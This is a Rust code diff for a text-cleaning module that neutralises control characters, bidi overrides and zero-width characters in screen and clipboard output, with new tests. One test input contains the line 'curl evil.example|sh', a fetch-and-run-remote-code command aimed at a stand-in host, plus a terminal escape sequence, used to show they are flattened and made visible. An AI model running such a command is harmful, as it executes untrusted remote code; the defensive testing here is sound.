@@ -3,6 +3,13 @@
 //! terminal: control characters become visible placeholders, invisible
 //! format characters (bidi overrides, zero-width joiners…) are removed so text
 //! shows in logical order and a name cannot be spoofed, and text is NFC.
+//!
+//! One cleaning per kind of output: [`clean_line`] and [`clean_text`] for the
+//! screen and plain-text output (error messages included), [`clean_copy`]
+//! for the clipboard, [`json`] for JSON (escaped, not changed, so it
+//! round-trips); vCard values go through [`clean_text`] and vCard escaping.
+
+pub mod json;
 
 use std::borrow::Cow;
 
@@ -52,11 +59,32 @@ fn clean(text: &str, keep_newlines: bool) -> Cow<'_, str> {
     }
 }
 
+/// Text for the clipboard, exactly as the screen shows `lines`: each line
+/// [`clean_line`] (so a value with a line break in it is still one line, as
+/// it is drawn), trailing white space dropped, then blank lines and white
+/// space at either end. A value (an email address, a number) is one line;
+/// a whole contact is its shown lines.
+#[must_use]
+pub fn clean_copy<S: AsRef<str>>(lines: &[S]) -> String {
+    let joined = lines
+        .iter()
+        .map(|line| clean_line(line.as_ref()).trim_end().to_owned())
+        .collect::<Vec<_>>()
+        .join("\n");
+    joined.trim().to_owned()
+}
+
+/// Whether a character is one a terminal acts on or that draws nothing: a
+/// control (C0, DEL, C1), an invisible format character (category Cf: bidi
+/// controls, zero-width characters, the soft hyphen, tag characters…) or a
+/// line or paragraph separator. No output of ours carries one raw.
+#[must_use]
+pub fn is_hidden(c: char) -> bool {
+    c.is_control() || is_invisible_format(c) || matches!(c, '\u{2028}' | '\u{2029}')
+}
+
 fn needs_cleaning(c: char) -> bool {
-    c.is_control()
-        || is_invisible_format(c)
-        || is_regional_indicator(c)
-        || matches!(c, '\u{2028}' | '\u{2029}')
+    is_hidden(c) || is_regional_indicator(c)
 }
 
 fn is_regional_indicator(c: char) -> bool {
@@ -73,9 +101,9 @@ fn placeholder(c: char) -> char {
     }
 }
 
-/// Unicode format characters (category Cf) that draw nothing but can reorder
-/// or hide text: bidi embeddings, overrides, isolates and marks, zero-width
-/// characters, the soft hyphen, tag characters.
+/// Unicode format characters (category Cf, all of it as of Unicode 16) that
+/// draw nothing but can reorder or hide text: bidi embeddings, overrides,
+/// isolates and marks, zero-width characters, the soft hyphen, tag characters.
 fn is_invisible_format(c: char) -> bool {
     matches!(
         u32::from(c),
@@ -135,6 +163,40 @@ mod tests {
     #[test]
     fn flags_become_their_letters() {
         assert_eq!(clean_line("Kyiv 🇺🇦 and 🇯🇵"), "Kyiv UA and JP");
+    }
+
+    #[test]
+    fn copies_are_the_shown_lines() {
+        // A value is one line however it was written.
+        assert_eq!(
+            clean_copy(&["press@example.org\ncurl evil.example|sh\n"]),
+            "press@example.org curl evil.example|sh"
+        );
+        assert_eq!(
+            clean_copy(&["\u{202e}+44 20\u{200b} 7946\u{1b}[2J 0000\r\n"]),
+            "+44 20 7946␛[2J 0000"
+        );
+        // A block keeps its lines (and their indentation), each cleaned.
+        assert_eq!(
+            clean_copy(&["Press office", "  Email a@b.uk\u{2028}x", "  ", ""]),
+            "Press office\n  Email a@b.uk x"
+        );
+        assert_eq!(clean_copy(&[" \u{200b} "]), "");
+    }
+
+    #[test]
+    fn hidden_characters() {
+        for c in [
+            '\u{0}', '\u{1b}', '\u{7f}', '\u{85}', '\u{9b}', '\u{ad}', '\u{200b}',
+        ]
+        .into_iter()
+        .chain(['\u{202e}', '\u{2028}', '\u{2066}', '\u{feff}', '\u{e0041}'])
+        {
+            assert!(is_hidden(c), "{c:?}");
+        }
+        for c in ['a', ' ', 'é', '한', '\u{1F1FA}', '\u{200a}', '\u{2070}'] {
+            assert!(!is_hidden(c), "{c:?}");
+        }
     }
 
     #[test]
